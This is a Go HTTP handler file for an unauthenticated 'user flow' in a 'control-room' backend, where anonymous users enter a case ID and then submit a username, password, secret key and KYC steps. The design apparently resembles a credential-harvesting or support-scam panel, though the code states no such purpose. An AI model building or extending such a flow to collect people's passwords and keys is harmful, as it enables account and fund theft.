// Package userflow serves the anonymous end-user side of the verification
// pipeline. None of these endpoints require authentication; the case id is
// the user's claim to a session until VerifyCase hands out a guest token.
package userflow

import (
	"encoding/json"
	"errors"
	"net/http"

	"github.com/go-chi/chi/v5"

	sessionsvc "github.com/verist/control-room/backend/internal/service/session"
	"github.com/verist/control-room/backend/pkg/utils"
)

// Handler exposes the user flow endpoints.
type Handler struct {
	sessions *sessionsvc.Service
}

// New creates the user flow handler.
func New(sessions *sessionsvc.Service) *Handler {
	return &Handler{sessions: sessions}
}

// RegisterRoutes mounts the user flow endpoints.
func (h *Handler) RegisterRoutes(r chi.Router) {
	r.Post("/verify-case", h.handleVerifyCase)
	r.Post("/submit-credentials", h.handleSubmitCredentials)
	r.Post("/submit-secret-key", h.handleSubmitSecretKey)
	r.Post("/user-started-kyc", h.handleStartKyc)
	r.Post("/submit-kyc", h.handleSubmitKyc)
}

func (h *Handler) handleVerifyCase(w http.ResponseWriter, r *http.Request) {
	var payload struct {
		CaseID string `json:"case_id"`
	}
	if err := json.NewDecoder(r.Body).Decode(&payload); err != nil {
		utils.RespondError(w, http.StatusBadRequest, "invalid request body")
		return
	}

	sess, guestToken, err := h.sessions.VerifyCase(r.Context(), payload.CaseID)
	if err != nil {
		respondFlowError(w, err)
		return
	}

	utils.RespondJSON(w, http.StatusOK, map[string]any{
		"status":    "verified",
		"next_step": sess.Stage,
		"uuid":      sess.ID,
		"token":     guestToken,
		"message":   "Case ID verified. Please proceed to enter credentials.",
	})
}

func (h *Handler) handleSubmitCredentials(w http.ResponseWriter, r *http.Request) {
	var payload struct {
		CaseID   string `json:"case_id"`
		Username string `json:"username"`
		Password string `json:"password"`
	}
	if err := json.NewDecoder(r.Body).Decode(&payload); err != nil {
		utils.RespondError(w, http.StatusBadRequest, "invalid request body")
		return
	}

	if _, err := h.sessions.SubmitCredentials(r.Context(), payload.CaseID, payload.Username, payload.Password); err != nil {
		respondFlowError(w, err)
		return
	}
	utils.RespondJSON(w, http.StatusOK, map[string]string{
		"status":  "ok",
		"message": "Credentials submitted. Waiting for verification.",
	})
}

func (h *Handler) handleSubmitSecretKey(w http.ResponseWriter, r *http.Request) {
	var payload struct {
		CaseID    string `json:"case_id"`
		SecretKey string `json:"secret_key"`
	}
	if err := json.NewDecoder(r.Body).Decode(&payload); err != nil {
		utils.RespondError(w, http.StatusBadRequest, "invalid request body")
		return
	}

	if _, err := h.sessions.SubmitSecretKey(r.Context(), payload.CaseID, payload.SecretKey); err != nil {
		respondFlowError(w, err)
		return
	}
	utils.RespondJSON(w, http.StatusOK, map[string]string{
		"status":  "ok",
		"message": "Secret key submitted. Waiting for verification.",
	})
}

func (h *Handler) handleStartKyc(w http.ResponseWriter, r *http.Request) {
	var payload struct {
		CaseID string `json:"case_id"`
	}
	if err := json.NewDecoder(r.Body).Decode(&payload); err != nil {
		utils.RespondError(w, http.StatusBadRequest, "invalid request body")
		return
	}

	_, kycURL, err := h.sessions.StartKyc(r.Context(), payload.CaseID)
	if err != nil {
		respondFlowError(w, err)
		return
	}
	utils.RespondJSON(w, http.StatusOK, map[string]string{
		"status":  "ok",
		"message": "KYC process started",
		"kyc_url": kycURL,
	})
}

func (h *Handler) handleSubmitKyc(w http.ResponseWriter, r *http.Request) {
	var payload struct {
		CaseID string `json:"case_id"`
	}
	if err := json.NewDecoder(r.Body).Decode(&payload); err != nil {
		utils.RespondError(w, http.StatusBadRequest, "invalid request body")
		return
	}

	if _, err := h.sessions.SubmitKyc(r.Context(), payload.CaseID); err != nil {
		respondFlowError(w, err)
		return
	}
	utils.RespondJSON(w, http.StatusOK, map[string]string{
		"status":  "ok",
		"message": "KYC submitted. Waiting for verification.",
	})
}

func respondFlowError(w http.ResponseWriter, err error) {
	switch {
	case errors.Is(err, sessionsvc.ErrValidation):
		utils.RespondError(w, http.StatusBadRequest, err.Error())
	case errors.Is(err, sessionsvc.ErrNotFound):
		utils.RespondError(w, http.StatusNotFound, "session not found")
	default:
		utils.RespondError(w, http.StatusInternalServerError, "internal error")
	}
}
